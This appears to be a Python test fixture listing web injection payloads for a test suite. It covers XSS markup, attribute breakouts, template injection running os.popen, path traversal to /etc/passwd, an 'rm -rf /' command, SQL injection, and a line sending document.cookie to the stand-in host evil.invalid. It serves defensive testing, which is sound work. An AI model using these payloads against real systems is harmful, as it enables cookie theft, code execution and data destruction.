"""Words that would do something if a page took them for more than words: raise a dialog, or ask `EVIL`.

They stand in titles, texts, names, addresses, file names, collections and questions; see `test_web_injection.py`.
"""

from __future__ import annotations

EVIL = "evil.invalid"

_MARKUP = (
    r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>
<script/x>alert(1)</script
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type=module>import("//evil.invalid/m.js")</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</template><script>alert(1)</script>
</noscript><img src=x onerror=alert(1)>
</select><img src=x onerror=alert(1)>
</mark></p></article><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<!--><img src=x onerror=alert(1)>-->
<img src=x onerror=alert(1)>
<img src=//evil.invalid/i.png>
<img srcset="//evil.invalid/i.png 2x">
<IMG """
    + '"""'
    + r"""><SCRIPT>alert(1)</SCRIPT>">
<img src="x` `<script>alert(1)</script>"` `>
<image href=//evil.invalid/i.png>
<picture><source srcset=//evil.invalid/p><img></picture>
<svg onload=alert(1)>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="//evil.invalid/u.svg#x"/></svg>
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<html onmouseenter=alert(1)>
<input autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)></textarea>
<select autofocus onfocus=alert(1)></select>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<video src=//evil.invalid/v.mp4 autoplay onerror=alert(1)></video>
<video><source onerror=alert(1) src=x></video>
<audio src=x onerror=alert(1)>
<track src=//evil.invalid/t.vtt default>
<marquee onstart=alert(1)>x</marquee>
<object data=javascript:alert(1)></object>
<object data=//evil.invalid/o.html></object>
<embed src=//evil.invalid/e.svg>
<applet code=//evil.invalid/a.class></applet>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=//evil.invalid/></iframe>
<frameset onload=alert(1)><frame src=//evil.invalid/></frameset>
<base href=//evil.invalid/>
<meta http-equiv=refresh content="0;url=//evil.invalid/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=Content-Security-Policy content="script-src *">
<link rel=stylesheet href=//evil.invalid/s.css>
<link rel=preload as=script href=//evil.invalid/p.js>
<link rel=dns-prefetch href=//evil.invalid>
<style>@import "//evil.invalid/s.css";</style>
<style>*{background:url(//evil.invalid/b.png)}</style>
<div style="background:url(//evil.invalid/b.png)">x</div>
<div style="width:expression(alert(1))">x</div>
<div style=animation-name:x onanimationstart=alert(1)>x</div>
<p style=position:fixed;inset:0;z-index:9>x</p>
<a href=javascript:alert(1)>x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="&#106;avascript&colon;alert(1)">x</a>
<a ping=//evil.invalid/ping href=/>x</a>
<form action=//evil.invalid/><button>x</button></form>
<button form=ask formaction=//evil.invalid/>x</button>
<form id=ask><input name=action><input id=kept></form>
<img name=getElementById><img name=querySelector><form name=body></form>
<a id=q></a><a id=q name=value href=//evil.invalid/></a>
<div id=status role=alert aria-live=assertive>x</div>
<template id=asking><img src=x onerror=alert(1)></template>
<custom-element onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>x</custom-element>
<portal src=//evil.invalid/></portal>
<fencedframe src=//evil.invalid/></fencedframe>
<script>fetch("//evil.invalid/"+document.cookie)</script>
"""
)
_ATTRIBUTES = r"""
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
` onload=alert(1) `
" autofocus onfocus=alert(1) x="
"/><svg/onload=alert(1)>
" style="background:url(//evil.invalid/b.png)
" srcdoc="<script>alert(1)</script>
"accesskey="x"onclick="alert(1)
x" data-asks="exact" href="javascript:alert(1)
&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;
&lt;img src=x onerror=alert(1)&gt;
%3Cscript%3Ealert(1)%3C/script%3E
%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cimg src=x onerror=alert(1)\x3e
"""
_TEMPLATES = r"""
{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{{ config.__class__.__init__.__globals__ }} {{ self._TemplateReference__context }}
{{ cycler.__init__.__globals__.os.popen("id").read() }}
{% include "/etc/passwd" %}{# a comment #}{% raw %}
${7*7} #{7*7} <%= 7*7 %> @(7*7) *{7*7} ~{7*7}
{words} {seconds} {0} {0.__class__} %s %n %(name)s $& $1 $$ $`
constructor __proto__ toString hasOwnProperty [object Object]
"""
_MARKDOWN = r"""
[x](javascript:alert(1)) ![x](//evil.invalid/i.png) <javascript:alert(1)>
[x]: javascript:alert(1) "x" [x]
**bold** _so_ `code` # head > quote - list 1. one | table | --- |
<details><summary>x</summary>\n\n<script>alert(1)</script></details>
```html <script>alert(1)</script> ```
![x](x "onerror=alert(1)") [^1]: <img src=x onerror=alert(1)>
"""
_BREAKOUTS = r"""
"}</script><script>alert(1)</script>
\"});alert(1);//
';alert(1);var x='
'-alert(1)-'
`${alert(1)}`
*/alert(1)/*
//alert(1)
javascript:alert(1)
JaVaScRiPt:alert(1)//https://a.example/
javascript://a.example/%0Aalert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
blob:https://evil.invalid/x
//evil.invalid/x
\\evil.invalid\x
https:evil.invalid
https://user:word@evil.invalid/
https://evil.invalid/"onclick="alert(1)
http://127.0.0.1@evil.invalid/
../../../../etc/passwd
..\..\windows\win.ini
; rm -rf / #
' OR 1=1 --
AND NEAR(a b) "unclosed title:x* ^ ~2 [a TO b]
"""
# Whatever cannot stand in a line of this file.
_CONTROLS = (
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "a\nX-Injected: 1\n",
    "%0d%0aLocation:%20//evil.invalid/",
    "jav\tascript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img\x0csrc=x\x0bonerror=alert(1)>",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u2066<b>\u2069\u200f\u200e\u061c\u2067x",
    "<\u200bscript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u2028alert(1)\u2029",
    "<ſcript>alert(1)</ſcript>",
    "<ımg src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<script\u00a0>alert(1)</script\u00a0>",
    "\U000e0001\U000e0041<b>x</b>",
    "Z" + "\u0338\u0489" * 40 + "<b>x</b>",
    "\u1e9e\ufb01\u2126\u212b<i>x</i>",
    "<b>" + "A" * 400 + "</b>",
    "<i>" * 60,
)

PAYLOADS = (
    *(
        line
        for lines in (_MARKUP, _ATTRIBUTES, _TEMPLATES, _MARKDOWN, _BREAKOUTS)
        for line in lines.splitlines()
        if line
    ),
    *_CONTROLS,
)
